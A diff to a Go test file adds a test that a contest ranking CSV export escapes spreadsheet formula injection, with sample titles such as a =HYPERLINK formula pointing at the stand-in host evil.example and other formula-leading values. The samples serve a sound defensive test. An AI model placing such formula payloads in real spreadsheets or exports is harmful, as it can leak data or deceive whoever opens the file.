@@ -1,7 +1,10 @@
 package main
 
 import (
+	"bytes"
+	"encoding/csv"
 	"fmt"
+	"slices"
 	"testing"
 	"time"
 
@@ -80,5 +83,39 @@ func TestObjectKeysRoundTrip(t *testing.T) {
 		if _, _, _, ok := parseObjectKey(key); ok {
 			t.Errorf("parseObjectKey(%q) accepted", key)
 		}
+	}
+}
+
+func TestRankingCSVHoldsPeoplesTextAsText(t *testing.T) {
+	tests := []struct {
+		name, title, want string
+	}{
+		{"a hyperlink formula is quoted", `=HYPERLINK("http://evil.example/?x","Nhan thuong")`, `'=HYPERLINK("http://evil.example/?x","Nhan thuong")`},
+		{"a sum is quoted", "=1+1", "'=1+1"},
+		{"a leading plus is quoted", "+1", "'+1"},
+		{"a leading minus is quoted", "-1", "'-1"},
+		{"a leading at sign is quoted", "@SUM(A1)", "'@SUM(A1)"},
+		{"a leading tab is quoted", "\t=1", "'\t=1"},
+		{"a leading carriage return is quoted", "\r=1", "'\r=1"},
+		{"an ordinary Vietnamese title is unchanged", "Phường Phú Hội: một cửa, một dấu", "Phường Phú Hội: một cửa, một dấu"},
+	}
+	criteria := []cliprules.Criterion{{ID: "a", Name: "=2*3"}}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			clips := []dynamo.Clip{{ID: "u1.1", Block: "xa-phuong", Status: dynamo.ClipAccepted, UnitID: "u1", UnitName: tt.title, Title: tt.title}}
+			scores := []dynamo.ClipScores{{ClipID: "u1.1", JurorID: "j1", Scores: map[string]int{"a": 7}}}
+			data := rankingCSV(rank("demo", clips, scores, criteria, time.Time{}))
+			rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
+			if err != nil {
+				t.Fatalf("parse CSV: %v", err)
+			}
+			want := [][]string{
+				{"khoi", "hang", "ma_clip", "tieu_de", "don_vi", "'=2*3", "tong_diem", "so_giam_khao"},
+				{"xa-phuong", "1", "u1.1", tt.want, tt.want, "7.00", "7.00", "1"},
+			}
+			if !slices.EqualFunc(rows, want, slices.Equal) {
+				t.Errorf("CSV\n got %q\nwant %q", rows, want)
+			}
+		})
 	}
 }
